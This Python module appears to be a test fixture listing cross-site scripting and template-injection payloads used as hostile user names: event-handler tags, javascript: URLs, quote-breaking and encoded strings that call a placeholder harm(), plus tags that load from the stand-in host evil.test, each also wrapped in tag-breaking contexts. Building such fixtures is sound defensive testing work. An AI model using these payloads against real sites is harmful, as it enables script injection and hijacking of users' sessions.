"""Names that mean harm: each would call `harm()` or fetch from `evil.test`."""

CALLS = (
    "<script>harm()</script>",
    "<img src=x onerror=harm()>",
    "<svg onload=harm()>",
    "<svg/onload=harm()//",
    "<body onload=harm()>",
    "<input autofocus onfocus=harm()>",
    "<details open ontoggle=harm()>",
    "<video><source onerror=harm()>",
    "<audio src onerror=harm()>",
    "<iframe srcdoc='<script>parent.harm()</script>'>",
    "<iframe src=javascript:parent.harm()>",
    "<a href=javascript:harm() autofocus>x</a>",
    "<style onload=harm()></style>",
    "<link rel=stylesheet href=x onerror=harm()>",
    "<marquee onstart=harm()>x</marquee>",
    "<math><mtext></form><form><mglyph><svg><img src=x onerror=harm()>",
    "<template><script>harm()</script></template>",
    "<noscript><img src=x onerror=harm()></noscript>",
    "<object data=javascript:harm()>",
    "<embed src=javascript:harm()>",
    "javascript:harm()",
    "${harm()}",
    "{{harm()}}",
    "{harm()}",
    "`${harm()}`",
    "'+harm()+'",
    '"+harm()+"',
    "';harm();'",
    '";harm();"',
    "\\u003cscript\\u003eharm()\\u003c/script\\u003e",
    "&lt;script&gt;harm()&lt;/script&gt;",
    "&#60;img src=x onerror=harm()&#62;",
)
FETCHES = (
    "<img src=//evil.test/a>",
    "<script src=//evil.test/a></script>",
    "<link rel=stylesheet href=//evil.test/a>",
    "<link rel=prefetch href=//evil.test/a>",
    "<iframe src=//evil.test/a></iframe>",
    "<style>@import '//evil.test/a'</style>",
    "<b style=background:url(//evil.test/a)>x</b>",
    "<meta http-equiv=refresh content='0;url=//evil.test/a'>",
)
WRAPPED = ("{}", "Ann {}", '">{}', "'>{}", "</li></ul>{}")
HOSTILE_NAMES = tuple(frame.replace("{}", name) for frame in WRAPPED for name in CALLS + FETCHES)

SHORT = ("<b>Ann</b>", "<svg onload=harm()>", "<img src=//evil.test/a>", "${harm()}{{harm()}}")
"""Such as the server takes: none has more than 24 characters."""
